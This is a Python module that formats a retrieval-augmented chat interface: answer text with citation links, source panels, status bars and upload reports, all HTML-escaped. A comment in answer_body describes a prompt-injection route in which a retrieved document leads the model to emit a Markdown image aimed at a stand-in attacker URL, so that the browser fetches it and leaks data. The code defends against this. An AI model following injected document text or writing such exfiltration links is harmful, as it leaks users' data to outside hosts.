"""Pure formatting for the chat page: answers, sources, status and reports as Markdown/HTML.

Nothing here talks to the engine or to Gradio; every function takes plain values and returns a string, so
the page's look is tested without a browser. All document and model text is HTML-escaped before it is
placed in markup (a document may contain `<script>`).
"""

from __future__ import annotations

import html
import re
from collections.abc import Iterable, Mapping, Sequence

from rag.text import UNSUPPORTED_MARK as UNSUPPORTED_MARKER
from rag.types import Answer, Source, Status

STREAM_CURSOR = '<span class="rag-cursor">▍</span>'

_CITE_OR_BRACKET_RE = re.compile(r"\[(\d{1,3})\]|[\[\]]")
_BRACKET_ENTITY = {"[": "&#91;", "]": "&#93;"}


def escape(text: str) -> str:
    """Escape text for use inside HTML element content or attribute values."""
    return html.escape(text, quote=True)


def _cite_html(n: str, turn: str) -> str:
    return (
        f'<a class="rag-cite" href="#rag-src-{turn}-{n}" data-turn="{turn}" data-n="{n}" '
        f'title="Show source {n}">[{n}]</a>'
    )


def answer_body(text: str, *, turn: str) -> str:
    """Escape answer text and turn its `[n]` markers into links and `[unsupported]` into a badge.

    Args:
        text: Answer text as the core returned or streamed it.
        turn: Identifier of the chat turn, so that citation links reach this turn's sources.

    Returns:
        Markdown with inline HTML, safe to show in the chatbot.
    """
    escaped = escape(text)
    escaped = escaped.replace(
        escape(UNSUPPORTED_MARKER),
        '<span class="rag-unsupported" title="No passage supports this sentence">⚠ unsupported</span>',
    )
    # Other brackets become entities so that model text cannot form Markdown links or images (a document
    # could talk the model into writing ![](http://attacker/?q=...), which the browser would fetch).
    return _CITE_OR_BRACKET_RE.sub(
        lambda m: _cite_html(m.group(1), turn) if m.group(1) else _BRACKET_ENTITY[m.group(0)], escaped
    )


def search_line(query: str, *, done: bool) -> str:
    """The line above an answer that says what was searched for."""
    verb = "Searched for" if done else "Searching the documents for"
    return f'<div class="rag-search">🔎 {verb} <q>{escape(query)}</q>{"" if done else "…"}</div>'


def waiting_message() -> str:
    """The answer's place while the question waits in the queue."""
    return '<div class="rag-search">⏳ Waiting for the model…</div>'


def stopped_message(shown: str) -> str:
    """What was shown of an answer the user stopped, marked as stopped (and no longer streaming)."""
    return shown.replace(STREAM_CURSOR, "") + '\n\n<div class="rag-stopped">■ Stopped</div>'


def streaming_message(query: str | None, text: str, *, turn: str) -> str:
    """The assistant message while the answer streams in (before verification)."""
    if query is None:
        return '<div class="rag-search">🔎 Understanding the question…</div>'
    head = search_line(query, done=bool(text))
    if not text:
        return head + '\n\n<span class="rag-thinking">Reading the passages…</span>'
    return f"{head}\n\n{answer_body(text, turn=turn)}{STREAM_CURSOR}"


def _multiline(text: str) -> str:
    # Newlines become <br> so that the HTML block has no blank line (Markdown would resume after one).
    return escape(text).replace("\r\n", "\n").replace("\n", "<br>")


def highlight_passage(text: str, spans: Iterable[tuple[int, int]]) -> str:
    """Passage text as escaped HTML with the supporting sentences (`Source.evidence`: character offsets the
    verifier found) wrapped in `<mark>`; every character of the passage is kept."""
    parts: list[str] = []
    pos = 0
    for start, end in sorted(spans):
        start, end = max(start, pos), min(end, len(text))
        if start >= end:
            continue
        parts.append(_multiline(text[pos:start]))
        parts.append(f"<mark>{_multiline(text[start:end])}</mark>")
        pos = end
    parts.append(_multiline(text[pos:]))
    return "".join(parts)


def quotes_block(answer: Answer) -> str:
    """Under an answer: the passages' own sentences that state it, each with its source number."""
    if not answer.quotes:
        return ""
    items = "".join(
        f'<li><span class="rag-src-n">{q.n}</span> <q>{escape(q.text)}</q> '
        f'<span class="rag-quote-file">{escape(q.file)}</span></li>'
        for q in answer.quotes
    )
    head = '<div class="rag-quotes-head">What the documents say</div>'
    return f'<div class="rag-quotes">{head}<ul>{items}</ul></div>'


def source_label(source: Source) -> str:
    """`file · p. N · heading` as plain text."""
    label = source.file
    if source.page is not None:
        label += f" · p. {source.page}"
    if source.heading:
        label += f" · {source.heading}"
    return label


def source_item(source: Source, *, turn: str, open_: bool = False) -> str:
    """One source as a collapsible `<details>`: number, file, page, score; passage with highlights inside."""
    title = ""
    if source.title and source.title != source.heading:
        title = f'<span class="rag-src-title">{escape(source.title)}</span>'
    return (
        f'<details class="rag-source" id="rag-src-{turn}-{source.n}"{" open" if open_ else ""}>'
        f'<summary><span class="rag-src-n">{source.n}</span>'
        f'<span class="rag-src-file">{escape(source_label(source))}</span>{title}'
        f'<span class="rag-src-score" title="Retrieval similarity">score {source.score:.2f}</span></summary>'
        f'<div class="rag-passage">{highlight_passage(source.text, source.evidence)}</div>'
        "</details>"
    )


def sources_panel(answer: Answer, *, turn: str) -> str:
    """The panel under an answer: cited passages first, the other retrieved passages folded away."""
    if not answer.sources:
        return ""
    cited = [s for s in answer.sources if s.cited]
    others = [s for s in answer.sources if not s.cited]
    parts = ['<div class="rag-sources">']
    if cited:
        parts.append(
            f'<div class="rag-sources-head">Sources ({len(cited)}) — click one to read the passage</div>'
        )
        parts.extend(source_item(s, turn=turn) for s in cited)
    if others:
        n = len(others)
        if cited:
            what = f"{n} more passage{'s were' if n != 1 else ' was'} retrieved but not cited"
        else:
            what = f"{n} passage{'s were' if n != 1 else ' was'} searched"
        parts.append(f'<details class="rag-others"><summary>{what}</summary>')
        parts.extend(source_item(s, turn=turn) for s in others)
        parts.append("</details>")
    parts.append("</div>")
    return "".join(parts)


def answer_message(answer: Answer, *, turn: str) -> str:
    """The final assistant message: what was searched, the verified answer (or refusal), its sources."""
    blocks = [search_line(answer.search_query or answer.question, done=True)]
    if answer.refused:
        blocks.append(
            '<div class="rag-refusal"><div class="rag-refusal-head">🤷 Not found in the documents</div>'
            f"<div>{_multiline(answer.text)}</div></div>"
        )
    else:
        blocks.append(answer_body(answer.text, turn=turn))
        quotes = quotes_block(answer)
        if quotes:
            blocks.append(quotes)
        if answer.unsupported:
            n = len(answer.unsupported)
            what = "1 sentence is" if n == 1 else f"{n} sentences are"
            blocks.append(
                f'<div class="rag-unsupported-note">⚠ {what} not supported by the documents '
                "and marked <i>unsupported</i>: treat with care.</div>"
            )
    panel = sources_panel(answer, turn=turn)
    if panel:
        blocks.append(panel)
    return "\n\n".join(blocks)


def error_message(err: BaseException) -> str:
    """An error as a chat message: what went wrong and (the core's messages say) what to do."""
    kind = type(err).__name__
    return (
        f'<div class="rag-error"><div class="rag-error-head">⛔ {escape(_error_title(kind))}</div>'
        f"<div>{_inline_code(_multiline(str(err) or kind))}</div>"
        '<div class="rag-error-hint">The page still works: ask again once this is fixed.</div></div>'
    )


def _inline_code(escaped: str) -> str:
    # Core messages quote commands in backticks; inside an HTML block Markdown would not render them.
    return re.sub(r"`([^`<>]+)`", r"<code>\1</code>", escaped)


def _error_title(kind: str) -> str:
    return {
        "EndpointUnavailable": "The language model endpoint is not answering",
        "EndpointTimeout": "The language model took too long to answer",
        "InvalidQuestion": "That question cannot be asked",
        "IndexMismatch": "The index does not match the current settings",
        "ConfigError": "Configuration problem",
    }.get(kind, "Something went wrong")


def user_message(question: str) -> str:
    """The user's question as shown in the chat (escaped, so it is displayed as typed)."""
    return escape(question)


def status_html(status: Status) -> str:
    """The status bar: endpoint and model with a health dot, documents and chunks indexed."""
    endpoint = status.endpoint
    model = endpoint.model or "unknown model"
    dot = "rag-ok" if endpoint.healthy else "rag-down"
    state = "ready" if endpoint.healthy else "not answering"
    tip = escape(f"{endpoint.url} — {endpoint.error}" if endpoint.error else endpoint.url)
    docs, chunks = status.documents, status.chunks
    return (
        '<div class="rag-status">'
        f'<span class="rag-pill {dot}" title="{tip}"><span class="rag-dot"></span>'
        f"Model <b>{escape(model)}</b> {state}</span>"
        f'<span class="rag-pill" title="{tip}">endpoint {escape(endpoint.url) or "—"}</span>'
        f'<span class="rag-pill">📄 <b>{docs}</b> document{"s" if docs != 1 else ""} · '
        f"<b>{chunks}</b> chunk{'s' if chunks != 1 else ''} indexed</span>"
        f'<span class="rag-pill">collection <b>{escape(status.collection)}</b></span>'
        "</div>"
    )


def status_error_html(err: BaseException) -> str:
    """The status bar when the status itself could not be read."""
    return (
        '<div class="rag-status"><span class="rag-pill rag-down"><span class="rag-dot"></span>'
        f"{escape(str(err))}</span></div>"
    )


def upload_report(
    saved: Sequence[str],
    rejected: Sequence[tuple[str, str]],
    *,
    indexed: Mapping[str, int] | None = None,
    skipped: Sequence[tuple[str, str]] = (),
    progress: tuple[int, int, str] | None = None,
) -> str:
    """Markdown report of an upload: what was saved and indexed, what was refused and why.

    Args:
        saved: Names of files saved in the upload folder.
        rejected: (name, reason) for files refused before saving.
        indexed: Counts from the index report (added, updated, unchanged, chunks), once indexing ran.
        skipped: (file, reason) for saved files the indexer could not read.
        progress: (files done, files to do, last file) while indexing runs.
    """
    lines: list[str] = []
    if saved:
        names = ", ".join(f"`{escape(n)}`" for n in saved)
        if indexed is None and progress is not None:
            done, total, current = progress
            lines.append(f"⏳ Indexing {names}… {done}/{total} done (`{escape(current)}`)")
        elif indexed is None:
            lines.append(f"⏳ Indexing {names}…")
        else:
            added = indexed.get("added", 0) + indexed.get("updated", 0)
            lines.append(
                f"✅ Ready to ask about {names} — {_count(added, 'document')} indexed, "
                f"{_count(indexed.get('chunks', 0), 'chunk')}."
            )
    for name, reason in skipped:
        lines.append(f"❌ `{escape(name)}` could not be indexed: {escape(reason)}")
    for name, reason in rejected:
        lines.append(f"❌ `{escape(name)}` was not added: {escape(reason)}")
    return "\n\n".join(lines)


def _count(n: int, noun: str) -> str:
    return f"{n} {noun}{'' if n == 1 else 's'}"
